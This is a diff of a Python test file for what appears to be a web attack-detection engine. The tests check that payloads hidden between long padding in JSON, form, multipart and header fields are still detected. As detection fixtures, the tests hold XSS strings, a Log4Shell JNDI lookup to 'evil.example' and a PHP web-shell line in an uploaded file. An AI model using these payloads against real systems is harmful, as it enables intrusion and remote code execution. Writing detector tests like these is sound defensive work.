@@ -368,6 +368,59 @@ def test_padding_does_not_carry_a_payload_past_the_body_limit(
     assert [(h.type, h.point) for h in hits] == [(AttackType.XSS, point)]
 
 
+_PAD = b"a" * 3000
+
+
+@pytest.mark.parametrize(
+    ("content_type", "body", "point"),
+    [
+        (
+            "application/json",
+            b'{"pad": "' + _PAD + b'", "q": "<script>alert(1)</script>", "end": "' + _PAD + b'"}',
+            "post.json.q",
+        ),
+        (
+            "application/json",
+            b'["' + _PAD + b'", "<script>alert(1)</script>", "' + _PAD + b'"]',
+            "post.json.1",
+        ),
+        (
+            "application/x-www-form-urlencoded",
+            b"pad=" + _PAD + b"&q=%3Cscript%3Ealert(1)%3C%2Fscript%3E&end=" + _PAD,
+            "post.form.q",
+        ),
+        (
+            "multipart/form-data; boundary=B",
+            b'--B\r\nContent-Disposition: form-data; name="pad"\r\n\r\n'
+            + _PAD
+            + b'\r\n--B\r\nContent-Disposition: form-data; name="q"\r\n\r\n'
+            b'"><script>alert(1)</script>\r\n--B\r\nContent-Disposition: form-data; name="end"'
+            b"\r\n\r\n" + _PAD + b"\r\n--B--\r\n",
+            "post.multipart.q.text",
+        ),
+    ],
+)
+def test_padding_on_both_sides_of_a_field_does_not_hide_it(
+    content_type: str, body: bytes, point: str
+) -> None:
+    """The fields of a form, a multipart or a JSON body past the limit are read whole up
+    to a share of twice the limit, a longer one at both its ends: a short field between
+    two long ones (the middle of the body) is read, and no more is read than of a text."""
+    limits = Limits(max_body_bytes=1024)
+    request = Request("POST", "/", (("Content-Type", content_type),), body)
+    hits = Engine(EngineSettings(limits=limits)).scan(request)
+    assert [(h.type, h.point) for h in hits] == [(AttackType.XSS, point)]
+    points = extract(request, limits)
+    assert sum(len(value) for _, value in points) <= 2 * 1024 + 120  # and names, headers
+    assert 0 < points.unparsed < len(body) - 2 * 1024 + 120
+    # The end of a long field is read: what is added to it counts.
+    padded = body.replace(_PAD, _PAD + b" <svg onload=alert(1)>", 1)
+    found = Engine(EngineSettings(limits=limits)).scan(
+        Request("POST", "/", request.headers, padded)
+    )
+    assert len({h.point for h in found}) == 2
+
+
 def test_the_middle_of_a_body_past_twice_the_limit_is_not_analysed() -> None:
     engine = Engine(EngineSettings(limits=Limits(max_body_bytes=1024)))
     body = b"a" * 2048 + b"<script>alert(1)</script>" + b"a" * 2048
@@ -825,12 +878,13 @@ def test_a_json_body_over_the_limit_is_parsed_whole() -> None:
     assert {h.type for h in engine.scan(request)} == {AttackType.XSS}
     cut = Request("POST", "/api", (("Content-Type", "application/json"),), body.encode()[:-1])
     assert extract(cut, limits).unparsed == len(body) - 1 - 2 * 1024  # no document: text
-    # Its values are read as a text is: the first and the last 1024 characters of them.
+    # No more of its values are read than of a text, 2048 characters: the short one whole,
+    # the long one at both its ends.
     huge = json.dumps({"a": "x" * 3000, "b": "<script>alert(1)</script>"}).encode()
     points = extract(Request("POST", "/api", (("Content-Type", "application/json"),), huge), limits)
     assert list(points)[-3:] == [
-        ("post.json.a", "x" * 1024),
-        ("post.json.a", "x" * 999),
+        ("post.json.a", "x" * 1012),
+        ("post.json.a", "x" * 1011),
         ("post.json.b", "<script>alert(1)</script>"),
     ]
     assert points.unparsed == 3025 - 2048
@@ -862,6 +916,11 @@ def test_the_target_and_headers_are_read_as_a_body_is_at_their_ends() -> None:
     engine = Engine(EngineSettings(limits=limits, report_unparsed=True))
     hits = {(h.type, h.point) for h in engine.scan(Request("GET", "/", headers))}
     assert hits == {(AttackType.RCE, "header.X-API-VERSION"), (AttackType.OVERLIMIT, "request")}
+    # A header between two long ones is read whole, the long ones at both their ends.
+    between = (headers[0], headers[1], ("X-End", "c" * 5000))
+    points = extract(Request("GET", "/", between), limits)
+    assert ("header.X-API-VERSION", "${jndi:ldap://evil.example/a}") in list(points)
+    assert sum(len(value) for _, value in points) <= 2 * 1024
     # The parameters a header holds are parsed at their ends too, as a query's are:
     # 900 KB of `a;` in a Cookie took 57 ms to split, of `a&` in a Referer's query 108.
     cookie = "a=1; " + "b;" * 3000 + " c=<script>"
@@ -1018,8 +1077,9 @@ def test_a_body_just_twice_the_limit_long_has_a_tail_that_meets_its_head() -> No
 
 
 def test_the_end_of_a_long_uploaded_file_is_data_and_its_code_still_counts() -> None:
-    # The tail of a long multipart body starts inside the file: random bytes, read as text
-    # before, held a filter to the LDAP detector and a quote to the SQL one.
+    # The end of a long upload is read as its file is (a part of the same headers): random
+    # bytes, read as text before, held a filter to the LDAP detector and a quote to the
+    # SQL one.
     def upload(content: bytes) -> Request:
         body = (
             b'--B\r\nContent-Disposition: form-data; name="avatar"; filename="a.png"\r\n'
@@ -1032,7 +1092,7 @@ def test_the_end_of_a_long_uploaded_file_is_data_and_its_code_still_counts() -> 
     assert engine.scan(upload(image)) == []
     shell = upload(image[:70_000] + b"<?php system($_GET['c']); ?>")
     assert [(h.type, h.point) for h in engine.scan(shell)] == [
-        (AttackType.RCE, "post.multipart.@preamble")
+        (AttackType.RCE, "post.multipart.avatar.code")
     ]
 
 
